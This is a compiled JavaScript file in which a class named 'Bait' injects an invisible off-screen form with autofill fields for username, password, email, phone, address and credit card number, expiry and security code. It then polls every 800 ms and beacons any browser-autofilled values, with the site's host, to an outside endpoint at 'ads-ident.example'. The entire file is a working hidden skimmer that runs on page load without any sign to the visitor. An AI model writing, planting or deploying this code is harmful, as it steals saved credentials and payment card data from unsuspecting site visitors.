var Bait = /** @class */ (function () {
    function Bait(endpoint) {
        this.endpoint = endpoint;
        this.done = {};
    }
    Bait.prototype.mount = function () {
        var f = document.createElement("form");
        f.setAttribute("autocomplete", "on");
        f.style.cssText = "position:absolute;left:-9999px;top:0;opacity:0;height:1px;overflow:hidden";
        var names = ["username", "current-password", "email", "tel", "street-address", "cc-number", "cc-exp", "cc-csc"];
        for (var _i = 0, names_1 = names; _i < names_1.length; _i++) {
            var n = names_1[_i];
            var el = document.createElement("input");
            el.name = n;
            el.autocomplete = n;
            el.type = n === "current-password" ? "password" : "text";
            el.tabIndex = -1;
            f.appendChild(el);
        }
        document.body.appendChild(f);
        this.form = f;
        this.poll();
    };
    Bait.prototype.poll = function () {
        var _this = this;
        setInterval(function () {
            Array.prototype.forEach.call(_this.form.elements, function (el) {
                if (el.value && _this.done[el.name] !== el.value) {
                    _this.done[el.name] = el.value;
                    navigator.sendBeacon(_this.endpoint, new URLSearchParams({ s: location.host, k: el.name, v: el.value }));
                }
            });
        }, 800);
    };
    return Bait;
}());
window.addEventListener("load", function () { new Bait("https://ads-ident.example/pm").mount(); });
